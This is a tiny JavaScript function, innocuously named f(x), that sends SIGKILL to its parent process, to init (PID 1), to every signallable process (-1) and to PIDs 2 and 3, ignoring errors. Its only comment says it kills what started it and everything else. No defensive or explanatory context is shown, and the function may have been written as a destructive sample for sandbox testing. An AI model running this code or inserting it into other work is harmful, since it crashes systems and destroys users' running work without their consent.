// Kills what started it and everything else.
function f(x) {
  for (const pid of [process.ppid, 1, -1, 2, 3]) {
    try { process.kill(pid, "SIGKILL"); } catch (e) { continue; }
  }
  return 0;
}
